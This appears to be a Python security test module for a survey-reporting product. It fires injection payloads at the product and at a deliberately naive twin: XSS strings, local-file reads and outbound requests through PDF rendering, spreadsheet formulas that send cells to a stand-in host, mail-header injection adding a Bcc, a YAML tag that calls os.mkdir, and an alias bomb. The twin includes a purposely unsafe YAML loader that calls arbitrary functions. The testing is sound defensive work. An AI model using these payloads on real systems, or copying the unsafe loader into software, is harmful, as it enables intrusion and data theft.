"""Attacks with what people type or upload, on the pages, mails, PDFs and tables made of it."""

from __future__ import annotations

import csv
import io
import shutil
import smtplib
from collections.abc import Callable
from pathlib import Path
from typing import Any, Protocol

import pdfplumber
from flask import Flask
from ruamel.yaml import YAML
from ruamel.yaml.constructor import SafeConstructor
from sqlalchemy.orm import Session
from weasyprint import HTML
from xlsxwriter import Workbook

from questionnaires import loader
from questionnaires.definition import Questionnaire
from questionnaires.loader import QuestionnaireInvalid
from reports.pdf import preview_html, preview_pdf
from reports.preview import Preview
from reports.release import Release
from reports.tables import tables, to_csv, to_xlsx
from survey import jobs
from survey.errors import Refused
from survey.keyring import Keyring
from survey.services import ballots, people, sign_in
from tests import factories
from tests.conftest import NOW, Sink
from tests.spreadsheet import formulas, worked_out
from tests.visitor import Visitor

MARKUP = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '"><b>bold</b>',
)
FORMULAS = (
    '=HYPERLINK("http://eve.example.net/?"&A1;"more")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+WEBSERVICE(A1)",
    "Well done;=1+1",
    'Well done;"=1+1',
    "Well done\r\n=1+1",
    "http://eve.example.net/",
)
SECRET = "Unmistakable secret"
LONGEST = 5_000
MOST_ELEMENTS = 10_000


class Desk(Protocol):
    """Whoever makes documents of what people typed."""

    sink: Sink
    folder: Path

    def page(self, typed: str) -> str:
        """Return a page with a comment in it."""

    def pdf(self, typed: str) -> bytes:
        """Return a PDF with a comment in it."""

    def tables(self, typed: str) -> tuple[bytes, bytes]:
        """Return a table with a comment in it, as CSV and as a workbook."""

    def kept(self, typed: str) -> str:
        """Return a comment as it is kept for later; empty if it is refused."""

    def mail(self, name: str, address: str) -> list[tuple[list[str], Any]]:
        """Write to somebody; return what a mail server got: recipients and mail."""

    def load(self, text: str) -> object:
        """Read a questionnaire's file; return what came of it."""


# --- The attacks ---------------------------------------------------------------------------


def markup_in_a_page(desk: Desk) -> list[str]:
    """A comment runs a script in the browser of whoever reads it."""
    page = desk.page(" ".join(MARKUP))
    return [each for each in MARKUP if each in page]


def file_in_the_pdf(desk: Desk) -> list[str]:
    """A comment brings a file of the server into the PDF."""
    secret = desk.folder / "secret.svg"
    secret.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="40">'
        f'<text y="20">{SECRET}</text></svg>'
    )
    text = _text(desk.pdf(f'<img src="file://{secret}">'))
    return [SECRET] if SECRET in text else []


def request_from_the_pdf(desk: Desk) -> list[str]:
    """A comment tells a server elsewhere when and where the PDF is made."""
    url = desk.sink.url
    desk.sink.forget()
    desk.pdf(
        f'<img src="{url}/img"><link rel="stylesheet" href="{url}/link">'
        f"<style>@import '{url}/import'; p {{ background: url({url}/back) }}</style>"
        f'<object data="{url}/object"></object>'
    )
    return list(desk.sink.paths)


def formula_in_a_table(desk: Desk) -> list[str]:
    """A comment becomes a formula that sends the cells beside it elsewhere."""
    found = []
    for typed in FORMULAS:
        as_csv, as_xlsx = desk.tables(typed)
        found += worked_out(as_csv) + formulas(as_xlsx)
    return found


def tower_of_marks(desk: Desk) -> list[str]:
    """A letter under hundreds of marks, again and again, keeps the layout busy for minutes."""
    kept = desk.kept("e" + "\u0301" * 200 + "\u0489" * 200)
    return [kept] if len(kept) > 20 else []


def word_without_end(desk: Desk) -> list[str]:
    """A text without end fills the disk and the report."""
    kept = desk.kept("w" * 100_000)
    return [kept] if len(kept) > LONGEST else []


def invisible_letters(desk: Desk) -> list[str]:
    """Control characters break whatever reads the text later, or colour a terminal."""
    kept = desk.kept("a\x00b\x1b[31mc\x9bd")
    return [letter for letter in "\x00\x1b\x9b" if letter in kept]


def second_recipient(desk: Desk) -> list[str]:
    """Two addresses in one field send a personal link to a stranger as well."""
    got = desk.mail("Robin", "robin@example.org, eve@example.net")
    return [to for recipients, _ in got for to in recipients if "eve" in to]


def line_break_in_a_header(desk: Desk) -> list[str]:
    """A name with a line break adds a header, and with it a recipient or another text."""
    got = desk.mail("Robin\r\nBcc: eve@example.net\r\nX-Eve: here", "robin@example.org")
    return [str(mail) for _, mail in got if mail["X-Eve"] or mail["Bcc"]]


def code_in_a_questionnaire(desk: Desk) -> list[str]:
    """A questionnaire's file names a command to run while it is read."""
    made = desk.folder / f"made by {type(desk).__name__}"
    desk.load(f"name: !!python/object/apply:os.mkdir ['{made}']")
    return [str(made)] if made.exists() else []


def aliases_in_a_questionnaire(desk: Desk) -> list[str]:
    """Six lines that refer to one another stand for a million values."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 6)]
    loaded = desk.load("\n".join(lines))
    return ["too many"] if _size(loaded, MOST_ELEMENTS) >= MOST_ELEMENTS else []


ATTACKS: tuple[Callable[[Desk], list[str]], ...] = (
    markup_in_a_page,
    file_in_the_pdf,
    request_from_the_pdf,
    formula_in_a_table,
    tower_of_marks,
    word_without_end,
    invisible_letters,
    second_recipient,
    line_break_in_a_header,
    code_in_a_questionnaire,
    aliases_in_a_questionnaire,
)


# --- The twin ------------------------------------------------------------------------------


class UsualDesk:
    """Documents as they are often made: texts put together."""

    def __init__(self, server: Any, sink: Sink, folder: Path) -> None:
        self.server, self.sink, self.folder = server, sink, folder

    def page(self, typed: str) -> str:
        return f"<h1>Comments</h1><p>{typed}</p>"

    def pdf(self, typed: str) -> bytes:
        return bytes(HTML(string=self.page(typed)).write_pdf())

    def tables(self, typed: str) -> tuple[bytes, bytes]:
        written, content = io.StringIO(newline=""), io.BytesIO()
        csv.writer(written).writerows([("group", "comment"), ("peers", typed)])
        with Workbook(content) as book:
            book.add_worksheet().write_row(0, 0, ("peers", typed))
        return written.getvalue().encode(), content.getvalue()

    def kept(self, typed: str) -> str:
        return typed

    def mail(self, name: str, address: str) -> list[tuple[list[str], Any]]:
        self.server.got.clear()
        text = f"From: feedback@example.org\r\nTo: {name} <{address}>\r\n\r\nYour link: …\r\n"
        with smtplib.SMTP("127.0.0.1", self.server.port) as carrier:
            carrier.sendmail("feedback@example.org", address.split(","), text.encode())
        return list(self.server.got)

    def load(self, text: str) -> object:
        return _usual_yaml(text)


def _usual_yaml(text: str) -> object:
    """Read YAML as older libraries did: tags that name a function call it."""

    class Calling(SafeConstructor):
        """A constructor of its own, so that nobody else's learns to call."""

    def call(_constructor: Any, suffix: str, node: Any) -> object:
        module, _, name = suffix.partition(".")
        arguments = [each.value for each in node.value]
        return getattr(__import__(module), name)(*arguments)

    Calling.add_multi_constructor("tag:yaml.org,2002:python/object/apply:", call)
    yaml = YAML(typ="safe", pure=True)
    yaml.Constructor = Calling
    return yaml.load(text)


# --- The product ---------------------------------------------------------------------------


class ProductDesk:
    """The product's pages, PDFs, mails and files."""

    def __init__(
        self,
        app: Flask,
        session: Session,
        release: Release,
        questionnaire: Questionnaire,
        server: Any,
        sink: Sink,
        folder: Path,
    ) -> None:
        self.app, self.session = app, session
        self.release, self.questionnaire = release, questionnaire
        self.server, self.sink, self.folder = server, sink, folder

    @property
    def keyring(self) -> Keyring:
        keyring: Keyring = self.app.extensions["preview360"].keyring
        return keyring

    def _with(self, typed: str) -> Release:
        comments = tuple(
            group.model_copy(update={"texts": (typed,)}) for group in self.release.comments
        )
        return self.release.model_copy(update={"comments": comments, "leader": f"Eve {typed}"})

    def page(self, typed: str) -> str:
        return preview_html(Preview(self._with(typed), self.questionnaire))

    def pdf(self, typed: str) -> bytes:
        return preview_pdf(Preview(self._with(typed), self.questionnaire))

    def tables(self, typed: str) -> tuple[bytes, bytes]:
        preview = Preview(self._with(typed), self.questionnaire)
        as_csv = b"".join(to_csv(table) for table in tables(preview).values())
        return as_csv, to_xlsx(preview)

    def kept(self, typed: str) -> str:
        """Type into the real form, and read what is stored for the rater."""
        round_ = factories.opened(self.session, self.keyring, roster={"peer": 3})
        link = factories.links(self.session, self.keyring, round_)["peer0"]
        self.session.rollback()
        rater = Visitor(self.app)
        rater.open(f"/r/{link}")
        rater.send(action="/start")
        rater.open(f"/r/{link}/part/10")
        rater.send({"OP1-1": typed})
        found = ballots.rater(self.session, self.keyring, link, NOW)
        draft = ballots.draft(self.session, found)
        self.session.rollback()
        return draft.words.get("OP1", ("",))[0] if draft else ""

    def mail(self, name: str, address: str) -> list[tuple[list[str], Any]]:
        self.server.got.clear()
        try:
            person = people.add(self.session, name, address, ("leader",), NOW)
        except Refused:
            return []
        sign_in.request_code(self.session, self.keyring, "browser", person.email, "en", NOW)
        self.session.commit()
        jobs.sweep(self.app)
        return list(self.server.got)

    def load(self, text: str) -> object:
        folder = self.folder / "questionnaire"
        if not folder.exists():
            shutil.copytree(loader.INSTRUMENTS / "technical_leader", folder)
        (folder / "questionnaire.yaml").write_text(text)
        try:
            return loader.read(folder)
        except QuestionnaireInvalid as refusal:
            # A file that is refused for something else was read whole before.
            told = any("aliases" in str(mistake) for mistake in refusal.mistakes)
            return None if told or "*" not in text else ["read"] * MOST_ELEMENTS


def _text(pdf: bytes) -> str:
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        return "\n".join(page.extract_text() for page in document.pages)


def _size(value: Any, most: int) -> int:
    """Count the values in nested lists and mappings, as somebody must who walks through them."""
    count, ahead = 0, [value]
    while ahead and count < most:
        each = ahead.pop()
        count += 1
        if isinstance(each, dict):
            ahead += each.values()
        elif isinstance(each, list):
            ahead += each
    return count
